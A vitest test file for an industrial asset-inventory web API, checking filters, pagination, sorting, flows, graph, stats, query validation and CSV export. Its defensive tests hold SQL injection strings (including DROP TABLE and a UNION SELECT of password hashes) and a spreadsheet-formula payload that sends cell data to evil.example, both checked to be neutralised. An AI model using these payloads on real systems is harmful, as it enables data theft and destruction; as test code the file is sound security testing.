/**
 * The inventory routes over the sample plant, on SQLite and (when a server answers)
 * PostgreSQL: filters, search, sorting, pagination, detail, flows, operations, graph, CSV,
 * and what hostile query strings get.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analyzeBytes } from '../capture/analyze.js';
import type { Asset } from '../inventory/types.js';
import { PLANT, plantCapture } from '../sim/plant.js';
import { postgresUnavailable } from '../store/testing/databases.js';
import type { AssetRow, FlowRow, Graph, OpRow, Page, Stats } from '../store/types.js';
import { type Client, type TestHub, testHub } from './testing/hub.js';

const pgSkip = (await postgresUnavailable()) !== null;
const plant = await analyzeBytes(plantCapture(), { source: 'sample-plant.pcap' });

for (const dialect of ['sqlite', 'postgres'] as const) {
  describe.skipIf(dialect === 'postgres' && pgSkip)(`inventory API on ${dialect}`, () => {
    let hub: TestHub;
    let viewer: Client;
    let all: AssetRow[];
    let press: AssetRow;
    let hmi: AssetRow;

    const get = async <T>(url: string): Promise<T> => {
      const res = await viewer.inject({ url });
      expect(res.statusCode, `${url}: ${res.body}`).toBe(200);
      return res.json() as T;
    };
    const problem = async (url: string) => {
      const res = await viewer.inject({ url });
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      return { status: res.statusCode, ...(res.json() as { code: string; detail: string }) };
    };

    beforeAll(async () => {
      hub = await testHub({ dialect });
      await hub.store.ingest(plant.events);
      viewer = await hub.signedIn('viewer');
      all = (await get<Page<AssetRow>>('/api/assets?limit=1000')).items;
      press = all.find((a) => a.ips.includes(PLANT.plcPress.ip))!;
      hmi = all.find((a) => a.ips.includes(PLANT.hmi.ip))!;
    });
    afterAll(() => hub?.close());

    it('lists the plant', () => {
      expect(all.length).toBeGreaterThanOrEqual(8);
      expect(press).toMatchObject({ role: 'plc', macs: [PLANT.plcPress.mac] });
      expect(hmi.role).toBe('hmi');
    });

    it('pages through every asset exactly once, in a stable order', async () => {
      const seen: string[] = [];
      for (let offset = 0; ; offset += 3) {
        const page = await get<Page<AssetRow>>(`/api/assets?limit=3&offset=${offset}`);
        expect(page).toMatchObject({ total: all.length, limit: 3, offset });
        expect(page.items.length).toBe(Math.min(3, Math.max(0, all.length - offset)));
        seen.push(...page.items.map((a) => a.id));
        if (page.items.length < 3) break;
      }
      expect(seen).toEqual(all.map((a) => a.id));
      const beyond = await get<Page<AssetRow>>(`/api/assets?offset=${all.length + 5}`);
      expect(beyond).toEqual({ items: [], total: all.length, limit: 100, offset: all.length + 5 });
    });

    it('filters by role, subnet, protocol and vendor, and searches', async () => {
      const plcs = await get<Page<AssetRow>>('/api/assets?role=plc');
      expect(plcs.items.length).toBeGreaterThanOrEqual(3);
      expect(plcs.items.every((a) => a.role === 'plc')).toBe(true);
      expect(plcs.total).toBe(all.filter((a) => a.role === 'plc').length);
      const two = await get<Page<AssetRow>>('/api/assets?role=plc,hmi');
      expect(two.total).toBe(all.filter((a) => a.role === 'plc' || a.role === 'hmi').length);

      const cell = await get<Page<AssetRow>>(`/api/assets?subnet=${encodeURIComponent('10.10.1.0/24')}`);
      expect(cell.items.map((a) => a.id)).toContain(press.id);
      expect(cell.items.every((a) => a.ips.some((ip) => ip.startsWith('10.10.1.')))).toBe(true);

      const modbus = await get<Page<AssetRow>>('/api/assets?protocol=modbus');
      expect(modbus.items.map((a) => a.id)).toContain(press.id);
      expect(modbus.items.every((a) => a.protocols.includes('modbus'))).toBe(true);

      const weld = all.find((a) => a.ips.includes(PLANT.plcWeld.ip))!;
      expect(weld.names).toContain(PLANT.plcWeld.name);
      const named = await get<Page<AssetRow>>(`/api/assets?q=${PLANT.plcWeld.name.toUpperCase()}`);
      expect(named.items.map((a) => a.id)).toEqual([weld.id]);

      if (press.vendor) {
        const vendor = await get<Page<AssetRow>>(`/api/assets?vendor=${encodeURIComponent(press.vendor)}`);
        expect(vendor.items.map((a) => a.id)).toContain(press.id);
      }
    });

    it('sorts either way', async () => {
      const asc = (await get<Page<AssetRow>>('/api/assets?sort=name&order=asc&limit=1000')).items;
      const desc = (await get<Page<AssetRow>>('/api/assets?sort=name&order=desc&limit=1000')).items;
      expect(asc.map((a) => a.id).sort()).toEqual(all.map((a) => a.id).sort());
      expect(asc[0]!.id).not.toBe(desc[0]!.id);
    });

    it('shows an asset with its identity facts and evidence, protocols and peers', async () => {
      const asset = await get<Asset>(`/api/assets/${encodeURIComponent(press.id)}`);
      expect(asset).toMatchObject({ id: press.id, ips: [PLANT.plcPress.ip], role: { role: 'plc' } });
      expect(asset.facts.length).toBeGreaterThan(0);
      expect(asset.facts[0]!.evidence).toMatchObject({ source: 'sample-plant.pcap' });
      expect(asset.peers.map((p) => p.asset)).toContain(hmi.id);
      const missing = await problem(`/api/assets/${encodeURIComponent('mac:00:00:00:00:00:00')}`);
      expect(missing).toMatchObject({ status: 404, code: 'LG_NOT_FOUND' });
    });

    it('gives flows and operations of an asset and of an asset pair', async () => {
      const flows = (await get<{ items: FlowRow[] }>(`/api/assets/${encodeURIComponent(press.id)}/flows`))
        .items;
      expect(flows.length).toBeGreaterThan(0);
      const pair = (
        await get<{ items: FlowRow[] }>(
          `/api/assets/${encodeURIComponent(press.id)}/flows?peer=${encodeURIComponent(hmi.id)}`,
        )
      ).items;
      expect(pair.length).toBeGreaterThan(0);
      expect(pair.every((f) => [f.client, f.server].sort().join() === [hmi.id, press.id].sort().join())).toBe(
        true,
      );
      expect(pair.some((f) => f.app === 'modbus' && f.serverPort === 502)).toBe(true);

      const ops = (
        await get<{ items: OpRow[] }>(
          `/api/assets/${encodeURIComponent(press.id)}/operations?peer=${encodeURIComponent(hmi.id)}`,
        )
      ).items;
      expect(ops.some((o) => o.protocol === 'modbus' && o.op === 'read' && o.client === hmi.id)).toBe(true);
    });

    it('draws the graph with protocols and operation kinds on the edges', async () => {
      const g = await get<Graph>('/api/graph');
      expect(g.nodes.map((n) => n.id).sort()).toEqual(all.map((a) => a.id).sort());
      const edge = g.edges.find((e) => e.source === hmi.id && e.target === press.id);
      expect(edge?.protocols).toContain('modbus');
      expect(edge?.ops.read).toBeGreaterThan(0);
    });

    it('counts the overview figures', async () => {
      const s = await get<Stats>('/api/stats');
      expect(s.assets).toBe(all.length);
      expect(s.byRole.plc).toBe(all.filter((a) => a.role === 'plc').length);
      expect(s.protocols.map((p) => p.name)).toContain('modbus');
    });

    it('names the field of every invalid query', async () => {
      const cases: [string, RegExp][] = [
        ['/api/assets?limit=0', /^querystring\.limit: /],
        ['/api/assets?limit=1001', /^querystring\.limit: /],
        ['/api/assets?limit=ten', /^querystring\.limit: /],
        ['/api/assets?offset=-1', /^querystring\.offset: /],
        ['/api/assets?sort=password', /^querystring\.sort: /],
        ['/api/assets?order=sideways', /^querystring\.order: /],
        ['/api/assets?role=plc,wizard', /^querystring\.role\.1: /],
        ['/api/assets?subnet=10.0.0.0/33', /^querystring\.subnet: must be an IPv4 or IPv6 network/],
        ['/api/assets?subnet=10.0.0.1', /^querystring\.subnet: /],
        ['/api/assets?protocol=modbus%3Bdrop', /^querystring\.protocol: must be a protocol name/],
        ['/api/assets?q=a%00b', /^querystring\.q: must not contain control characters/],
        [`/api/assets?q=${'x'.repeat(201)}`, /^querystring\.q: /],
        ['/api/assets?limit=1&limit=2', /^querystring\.limit: /],
        ['/api/assets?colour=red', /^querystring: .*colour/],
        ['/api/assets/x%00y', /^params\.id: must not contain control characters/],
        ['/api/captures/not-a-uuid', /./],
      ];
      for (const [url, detail] of cases) {
        const p = await problem(url);
        if (url.startsWith('/api/captures')) {
          expect(p.status, url).toBe(403); // a viewer is refused before the id is looked at
          continue;
        }
        expect(p.status, url).toBe(400);
        expect(p.code, url).toBe('LG_VALIDATION');
        expect(p.detail, url).toMatch(detail);
      }
    });

    it('treats SQL-ish strings as plain text', async () => {
      const hostile = [
        "' OR '1'='1",
        "x'; DROP TABLE assets; --",
        '" OR 1=1 --',
        '%',
        '_',
        '\\',
        "plc' UNION SELECT password_hash FROM users --",
      ];
      for (const s of hostile) {
        const e = encodeURIComponent(s);
        for (const url of [`/api/assets?q=${e}`, `/api/assets?vendor=${e}`]) {
          const page = await get<Page<AssetRow>>(url);
          expect(page.total, url).toBe(0);
        }
        expect((await problem(`/api/assets/${e}`)).status).toBe(404);
        expect(
          (await get<{ items: FlowRow[] }>(`/api/assets/${encodeURIComponent(press.id)}/flows?peer=${e}`))
            .items,
        ).toEqual([]);
      }
      expect((await get<Page<AssetRow>>('/api/assets')).total).toBe(all.length);
    });

    it('exports the filtered inventory as CSV', async () => {
      const res = await viewer.inject({ url: '/api/assets.csv?role=plc' });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe('attachment; filename="lineguard-assets.csv"');
      const lines = res.body.trimEnd().split('\r\n');
      expect(lines[0]).toMatch(/^id,role,confidence,purdue_level,ips,macs,names,/);
      expect(lines.length - 1).toBe(all.filter((a) => a.role === 'plc').length);
      expect(lines.find((l) => l.startsWith(`${press.id},plc,`))).toContain(PLANT.plcPress.ip);
    });
  });
}

describe('CSV export', () => {
  it('defuses spreadsheet formulas a device announces about itself', async () => {
    const hub = await testHub();
    try {
      const ts = Date.UTC(2026, 0, 1);
      await hub.store.ingest([
        {
          kind: 'asset.observed',
          at: { ip: '10.66.0.1', mac: '02:00:00:00:00:01' },
          protocol: 'lldp',
          facts: { name: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
          evidence: { source: 'hostile', ts },
        },
      ]);
      const viewer = await hub.signedIn('viewer');
      const csv = (await viewer.inject({ url: '/api/assets.csv' })).body;
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
      expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    } finally {
      await hub.close();
    }
  });
});
